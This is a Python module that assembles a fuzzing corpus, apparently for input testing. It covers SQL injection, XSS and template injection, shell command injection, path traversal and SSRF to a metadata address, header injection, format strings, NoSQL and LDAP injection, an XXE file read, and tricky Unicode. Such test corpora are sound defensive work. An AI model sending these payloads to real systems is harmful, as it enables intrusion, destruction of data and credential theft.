"""Strings that break careless programs, a few hundred of them, put together
from parts: what ends a context, what is then done, what hides the rest."""
import itertools

SQL_AKHIR = ["'", '"', "')", '")', "'))", '`', "\\'", '%27', '\u2019', "0'",
	"1", '', "x'\t", "ʼ", "＇"]
SQL_LAKU = [' OR 1=1', ' OR SLEEP(9)', '; DROP TABLE laporan',
	' UNION SELECT sandi FROM pengguna', ' AND EXTRACTVALUE(1,0x7e)',
	'||(SELECT SLEEP(9))||', ' INTO OUTFILE "/tmp/x"',
	'; CALL sys.table_exists()', '/*!50000 UNION*/ SELECT 1',
	' LIKE "%%"', '; SHUTDOWN', ' RLIKE SLEEP(9)']
SQL_TUTUP = ['-- ', '#', '/*', ';', '']
HTML = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>',
	"'><svg/onload=alert(1)>", '<iframe src="javascript:alert(1)">',
	'javascript:alert(1)', '<a href="data:text/html,x">x</a>',
	'</textarea><script>1</script>', '<!--#exec cmd="id"-->',
	'<![CDATA[<script>]]>', '<math><mtext></form><form><mglyph><style>',
	'{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{7*7}',
	'<%= 7*7 %>', '{{7*7}}', '[[ {{x}} ]]', '{{{{tracking_id}}}}',
	'<body onload=alert(1)>', '<x onclick=alert(1)>klik', '&lt;script&gt;',
	'&#x3c;script&#x3e;', '\\u003cscript\\u003e', '%3Cscript%3E',
	'<scr\u0131pt>', '<script\u2028>alert(1)</script>', '--></script>',
	'<details open ontoggle=alert(1)>', '<img src="//contoh.id/x.png">',
	'<style>@import "//contoh.id"</style>', '<base href="//contoh.id">',
	'<meta http-equiv=refresh content=0>', '" autofocus onfocus=alert(1) x="']
PERINTAH = ['; id', '| id', '`id`', '$(id)', '&& id', '|| id', '\\`id\\`',
	'; cat /etc/passwd #', '%0aid', '$IFS$9id', '() { :;}; id',
	"'; system('id'); '", '=cmd|" /C calc"!A1', '=1+1', '+1+1', '-1+1',
	'@SUM(1)', '\t=1+1', '=HYPERLINK("http://contoh.id")', "'=1+1"]
JALUR = ['../../../../etc/passwd', '..\\..\\windows\\win.ini',
	'/etc/passwd', 'file:///etc/passwd', '....//....//etc/passwd',
	'%2e%2e%2f%2e%2e%2f', '..%c0%af..%c0%af', '/proc/self/environ',
	'\\\\server\\share', 'C:\\', 'CON', 'NUL.txt', 'aux', 'a/b', '~root',
	'http://169.254.169.254/latest/', 'http://[::1]/', 'gopher://x',
	'phar://x', 'jar:file:x!/', '//contoh.id//', '?x=1#y', 'a;b=c']
FORMAT = ['%s%s%s%s%s', '%n%n%n%n', '%x %x %x', '%999999999d', '%*d', '%p',
	'{0}', '{}', '%(x)s', '%1$s', '%%', '%', '%zu%lld', '\\x00', '\\0',
	'%00', '\\n\\r', '\\', '\\\\', '\\u0000', '\\ud800']
KEPALA = ['x\\r\\nSet-Cookie: a=b', 'x%0d%0aLocation: //contoh.id',
	'x\u560d\u560aSet-Cookie: a=b', 'a@b.c, x@y.z', 'To: x@y.z',
	'=?utf-8?B?eA==?=', 'Bcc:x@y.z', 'Content-Length: 0', 'HTTP/1.1 200 OK']
UNICODE = ['👩‍👩‍👧‍👦 lapor 🇮🇩', 'ﷺ' * 5, 'مرحبا بالعالم', '\u202eterbalik\u202c',
	'\u200b\u200c\u200d', '\ufeffbom', 'e\u0301 é', 'ﬁ ﬂ ﬃ', 'İiIı', 'ß ẞ',
	'Ω≈ç√∫˜µ≤≥÷', '田中さん', '\U0001f600' * 10, '𝕃𝕒𝕡𝕠𝕣', 'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟', '\u0660\u0661\u0662',
	"Ni'matullah", "Jum'at", "D'Masiv", 'Ma’ruf', '꧋ꦲꦏ꧀ꦱꦫꦗꦮ', 'ᮃᮊ᮪ᮞᮛ', '‮‭‬',
	'\u2028baris\u2029alinea', '\ufffd\ufffe', '\U0010ffff', '１２３',
	'ⅷ', '½', '𝟘', 'ªº', '\u0000'[:0] + 'kosong', 'a\u0300' * 40,
	'\u115f\u1160\u3164', '￼', '\U000e0041\U000e007f', '\u061c']
KATA = ['null', 'undefined', 'NULL', 'nil', 'None', 'true', 'false', 'NaN',
	'Infinity', '-1', '0', '1e400', '0x10', '1,000', '١', '9' * 30,
	'constructor', '__proto__', 'toString', 'hasOwnProperty', 'admin',
	'pusat', 'select', 'Order by', '*', '%', '_', '?', '*:*', '+', '-', '"',
	'"a b"', '~', '^', '(', ')', '()', 'a AND', 'NOT', 'OR', '!', '<', '>',
	'@', '(* ab *)', 'a*', '*a', '<>', '\\*', "''", '""', '{"$ne": null}',
	'{"$gt": ""}', '[object Object]', '(|(uid=*))', '*)(uid=*))(|(uid=*',
	"' or '1'='1", '//*', "x' or name()='x", '<?xml version="1.0"?>',
	'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;']


def semua():
	sql = [a + b + c for a, b, c in
		itertools.product(SQL_AKHIR, SQL_LAKU, SQL_TUTUP)]
	# every part of it in some order, not the whole product
	sql = sql[::4]
	return (sql + HTML + PERINTAH + JALUR + FORMAT + KEPALA + UNICODE + KATA)
